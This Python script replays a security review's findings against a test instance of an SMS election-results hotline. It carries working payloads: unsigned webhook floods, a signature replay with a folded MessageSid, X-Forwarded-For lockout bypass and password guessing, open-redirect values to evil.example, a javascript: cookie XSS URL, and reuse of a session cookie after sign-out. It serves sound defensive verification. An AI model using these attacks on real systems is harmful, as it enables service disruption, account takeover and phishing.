"""Replay the security review's findings (issue 21) against a running hotline, over HTTP.

Start a system first (`hotline run --port P` with HOTLINE_INSTANCE_PATH=DIR), then:

    .venv/bin/python scripts/attack_findings.py --base http://127.0.0.1:P --instance DIR

Each finding prints the request sent and the answer got. The script is what an attacker (or a
reviewer) would do by hand; it runs unchanged against old and new code, so the closing note can
show both. It writes to the system it attacks: use a throwaway instance.
"""
from __future__ import annotations

import argparse
import csv
import re
import sqlite3
import statistics
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path

import requests
from twilio.request_validator import RequestValidator

TWILIO_NUMBER = "+15155550100"


def db_bytes(instance: Path) -> int:
    return sum(p.stat().st_size for p in instance.glob("hotline.sqlite3*"))


def scalar(instance: Path, sql: str, *args: object) -> object:
    con = sqlite3.connect(f"file:{instance / 'hotline.sqlite3'}?mode=ro", uri=True, timeout=30)
    try:
        return con.execute(sql, args).fetchone()[0]
    finally:
        con.close()


class Attack:
    def __init__(self, base: str, instance: Path, token: str, account: str) -> None:
        self.base, self.instance, self.token, self.account = base.rstrip("/"), instance, token, account
        self.http = requests.Session()
        self.chairs = list(csv.DictReader((instance / "demo_roster.csv").open(encoding="utf-8")))

    # --- helpers ------------------------------------------------------------------------
    def signed(self, path: str, form: dict[str, str], url: str | None = None) -> tuple[dict, str]:
        signature = RequestValidator(self.token).compute_signature(url or self.base + path, form)
        return form, signature

    def sms(self, phone: str, body: str, **extra: str) -> dict[str, str]:
        return {"MessageSid": "SM" + uuid.uuid4().hex, "AccountSid": self.account, "From": phone,
                "To": TWILIO_NUMBER, "Body": body, "NumMedia": "0", **extra}

    def login_form(self, session: requests.Session) -> str:
        page = session.get(self.base + "/login").text
        found = re.search(r'name="csrf_token" value="([^"]+)"', page)
        return found.group(1) if found else ""

    def replies_to(self, phone: str, after_id: int) -> list[str]:
        deadline = time.monotonic() + 15
        while time.monotonic() < deadline:
            con = sqlite3.connect(f"file:{self.instance / 'hotline.sqlite3'}?mode=ro", uri=True, timeout=30)
            rows = con.execute("SELECT body FROM outbound_messages WHERE to_number=? AND id>? ORDER BY id",
                               (phone, after_id)).fetchall()
            con.close()
            if rows:
                return [r[0] for r in rows]
            time.sleep(0.3)
        return ["(no reply within 15 s)"]

    def last_outbound(self) -> int:
        return int(scalar(self.instance, "SELECT coalesce(max(id), 0) FROM outbound_messages"))

    # --- the findings -------------------------------------------------------------------
    def f1_forged_flood(self, n: int = 1000, size: int = 250_000) -> None:
        print(f"\n## 1. {n} unsigned requests with a {size // 1000} KB From")
        before, rows = db_bytes(self.instance), scalar(self.instance, "SELECT count(*) FROM log_entries")
        statuses: dict[int, int] = {}
        big = "+1" + "5" * size
        started = time.monotonic()
        for _ in range(n):
            r = self.http.post(self.base + "/twilio/sms", data={"MessageSid": "SM" + uuid.uuid4().hex,
                                                               "From": big, "Body": "x"})
            statuses[r.status_code] = statuses.get(r.status_code, 0) + 1
        took = time.monotonic() - started
        time.sleep(2)
        after, rows_after = db_bytes(self.instance), scalar(self.instance, "SELECT count(*) FROM log_entries")
        print(f"POST /twilio/sms (no X-Twilio-Signature, From={len(big):,} chars) x{n} in {took:.1f} s")
        print(f"answers: {statuses}; database {before:,} -> {after:,} bytes (+{after - before:,}); "
              f"log entries {rows} -> {rows_after} (+{rows_after - rows})")
        rows = rows_after
        statuses = {}
        for _ in range(4000):
            r = self.http.post(self.base + "/twilio/sms", data={"MessageSid": "SM" + uuid.uuid4().hex,
                                                               "From": "+15550001111", "Body": "x"})
            statuses[r.status_code] = statuses.get(r.status_code, 0) + 1
        time.sleep(2)
        rows_after = scalar(self.instance, "SELECT count(*) FROM log_entries")
        print(f"4,000 short unsigned requests: answers {statuses}; log entries +{rows_after - rows}")

    def f1b_chair_latency(self, texts: int = 200) -> None:
        print("\n## 1b. a chair's webhook while two attackers send unsigned requests")
        chair = self.chairs[2]["phones"].split(";")[0]

        def chair_median() -> float:
            took = []
            for _ in range(texts):
                form, sig = self.signed("/twilio/sms", self.sms(chair, "HELP"))
                t = time.perf_counter()
                self.http.post(self.base + "/twilio/sms", data=form, headers={"X-Twilio-Signature": sig})
                took.append((time.perf_counter() - t) * 1000)
                time.sleep(0.01)
            return statistics.median(took)

        quiet = chair_median()
        stop, sent = threading.Event(), [0]

        def forge() -> None:
            s = requests.Session()
            while not stop.is_set():
                s.post(self.base + "/twilio/sms", data={"MessageSid": "SM" + uuid.uuid4().hex,
                                                         "From": "+15550001111", "Body": "x"})
                sent[0] += 1
        threads = [threading.Thread(target=forge) for _ in range(2)]
        for t in threads:
            t.start()
        busy = chair_median()
        stop.set()
        for t in threads:
            t.join()
        print(f"chair's signed text, median answer: {quiet:.1f} ms quiet, {busy:.1f} ms while "
              f"{sent[0]:,} unsigned requests arrived")

    def f3_folded_sid(self) -> None:
        print("\n## 3. a captured signed text replayed with the next field folded into MessageSid")
        chair = self.chairs[0]
        form, signature = self.signed("/twilio/sms", self.sms(chair["phones"].split(";")[0], "HELP"))
        r = self.http.post(self.base + "/twilio/sms", data=form, headers={"X-Twilio-Signature": signature})
        print(f"original (MessageSid={form['MessageSid']}): {r.status_code}")
        folded = dict(form)
        folded["MessageSid"] = form["MessageSid"] + "NumMedia" + folded.pop("NumMedia")
        r = self.http.post(self.base + "/twilio/sms", data=folded, headers={"X-Twilio-Signature": signature})
        stored = scalar(self.instance, "SELECT count(*) FROM inbound_messages WHERE sid=?", folded["MessageSid"])
        print(f"replay, MessageSid={folded['MessageSid']} and no NumMedia, same signature: "
              f"{r.status_code} {r.text[:80]!r}; stored as a new text: {bool(stored)}")

    def f4_forwarded_for(self, user: str, password: str) -> None:
        print(f"\n## 4. X-Forwarded-For against the sign-in lock-out (user {user})")
        s = requests.Session()
        codes = []
        for _ in range(6):
            token = self.login_form(s)
            r = s.post(self.base + "/login", data={"username": user, "password": "wrong-password-x",
                                                   "csrf_token": token},
                       headers={"X-Forwarded-For": "203.0.113.7"}, allow_redirects=False)
            codes.append(r.status_code)
        locked = "Too many" in r.text or "wait" in r.text.lower()
        print(f"6 wrong passwords with X-Forwarded-For: 203.0.113.7: {codes}; locked message: {locked}")
        token = self.login_form(s)
        r = s.post(self.base + "/login", data={"username": user, "password": password, "csrf_token": token},
                   headers={"X-Forwarded-For": "198.51.100.9"}, allow_redirects=False)
        print(f"right password with X-Forwarded-For: 198.51.100.9: {r.status_code} "
              f"Location={r.headers.get('Location')!r}")
        codes = []
        for i in range(30):
            s2 = requests.Session()
            token = self.login_form(s2)
            r = s2.post(self.base + "/login", data={"username": "admin", "password": "guess-%d" % i,
                                                    "csrf_token": token},
                        headers={"X-Forwarded-For": f"192.0.2.{i + 1}"}, allow_redirects=False)
            codes.append(r.status_code)
        print(f"30 guesses at 'admin', a new X-Forwarded-For each: answers {sorted(set(codes))}; "
              f"last says: {_said(r.text)!r}")

    def f5_open_redirect(self, user: str, password: str) -> None:
        print("\n## 5. where sign-in sends you next")
        for nxt in ("/\t/evil.example/phish", "/\r\n/evil.com", "/\\evil.example", "https:evil.example"):
            s = requests.Session()
            token = self.login_form(s)
            r = s.post(self.base + "/login", data={"username": user, "password": password,
                                                   "csrf_token": token, "next": nxt}, allow_redirects=False)
            print(f"POST /login next={nxt!r}: {r.status_code} Location={r.headers.get('Location')!r}")

    def f7_pin_lock(self) -> None:
        print("\n## 7. strangers' wrong PINs against a chair on a borrowed phone")
        chair = self.chairs[5]
        code, pin = chair["precinct"], chair["pin"]
        wrong = "0000" if pin != "0000" else "1111"
        for i in range(5):
            phone = f"+1555777{i:04d}"
            form, sig = self.signed("/twilio/sms", self.sms(phone, f"{code} PIN {wrong} first: 10 10"))
            self.http.post(self.base + "/twilio/sms", data=form, headers={"X-Twilio-Signature": sig})
        time.sleep(3)
        borrowed = "+15557779999"
        mark = self.last_outbound()
        body = f"{code} PIN {pin} first: Biden 10"
        form, sig = self.signed("/twilio/sms", self.sms(borrowed, body))
        self.http.post(self.base + "/twilio/sms", data=form, headers={"X-Twilio-Signature": sig})
        print(f"5 strangers' phones text '{code} PIN {wrong} ...'; then the chair on a borrowed phone "
              f"texts '{code} PIN **** first: ...' and is answered:")
        for reply in self.replies_to(borrowed, mark):
            print(f"  {reply!r}")

    def f9_sessions(self, user: str, password: str) -> None:
        print("\n## 9. a session cookie after sign-out; security headers")
        s = requests.Session()
        token = self.login_form(s)
        s.post(self.base + "/login", data={"username": user, "password": password, "csrf_token": token})
        cookie = dict(s.cookies)
        page = s.get(self.base + "/console/")
        token = re.search(r'name="csrf_token" value="([^"]+)"', page.text)
        s.post(self.base + "/logout", data={"csrf_token": token.group(1) if token else ""})
        stolen = requests.get(self.base + "/console/", cookies=cookie, allow_redirects=False)
        print(f"GET /console/ with the cookie taken before sign-out: {stolen.status_code} "
              f"Location={stolen.headers.get('Location')!r}")
        for path in ("/login", "/results"):
            h = requests.get(self.base + path).headers
            print(f"GET {path}: Content-Security-Policy={h.get('Content-Security-Policy')!r} "
                  f"X-Frame-Options={h.get('X-Frame-Options')!r}")

    def f10_media(self) -> None:
        print("\n## 10. a media URL that is not Twilio's")
        chair = self.chairs[1]
        form, sig = self.signed("/twilio/sms", self.sms(chair["phones"].split(";")[0], "photo",
                                                        NumMedia="1", MediaUrl0="javascript:alert(document.cookie)"))
        r = self.http.post(self.base + "/twilio/sms", data=form, headers={"X-Twilio-Signature": sig})
        time.sleep(1)
        stored = scalar(self.instance, "SELECT media_urls FROM inbound_messages WHERE sid=?", form["MessageSid"])
        print(f"signed text with MediaUrl0=javascript:alert(document.cookie): {r.status_code}; "
              f"stored media: {stored!r}")


def _said(html: str) -> str:
    found = re.search(r'class="[^"]*error[^"]*"[^>]*>([^<]+)<', html)
    return found.group(1).strip() if found else html[:60]


def config_findings(python: str) -> None:
    """Findings 6 and 8 are about starting up: run in the target's own interpreter."""
    print("\n## 6 and 8. what production starts with")
    probes = {
        "HOTLINE_ENV=Production": {"HOTLINE_ENV": "Production"},
        "HOTLINE_ENV=production without PUBLIC_BASE_URL": {
            "HOTLINE_ENV": "production", "TWILIO_AUTH_TOKEN": "t" * 32, "SECRET_KEY": "s" * 40},
    }
    code = ("from hotline.config import Config\n"
            "c = Config.from_env().validate()\n"
            "print('starts: production=%s, signatures checked against %s, secret is the default: %s'"
            " % (c.production, c.public_base_url or 'the Host header', c.secret_key.startswith('local-dev')))")
    for name, env in probes.items():
        out = subprocess.run([python, "-c", code], env={"PATH": "/usr/bin:/bin", **env},
                             capture_output=True, text=True, cwd=Path(python).parents[2])
        said = (out.stdout.strip() or out.stderr.strip().splitlines()[-1])[:200]
        print(f"{name}: {said}")


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--base", required=True)
    ap.add_argument("--instance", required=True, type=Path)
    ap.add_argument("--python", default=sys.executable, help="the target's interpreter (findings 6, 8)")
    ap.add_argument("--token", default="local-dev-auth-token")
    ap.add_argument("--account", default="AC" + "0" * 32)
    ap.add_argument("--user", default="staff")
    ap.add_argument("--password", default="staff-demo-1")
    ap.add_argument("--only", default="1,1b,3,4,5,6,7,9,10")
    args = ap.parse_args()
    a = Attack(args.base, args.instance, args.token, args.account)
    only = set(args.only.split(","))
    steps = [("3", a.f3_folded_sid), ("10", a.f10_media), ("7", a.f7_pin_lock),
             ("5", lambda: a.f5_open_redirect(args.user, args.password)),
             ("9", lambda: a.f9_sessions(args.user, args.password)),
             ("4", lambda: a.f4_forwarded_for(args.user, args.password)),
             ("6", lambda: config_findings(args.python)), ("1", a.f1_forged_flood),
             ("1b", a.f1b_chair_latency)]
    for key, step in steps:
        if key in only:
            step()
    return 0


if __name__ == "__main__":
    sys.exit(main())
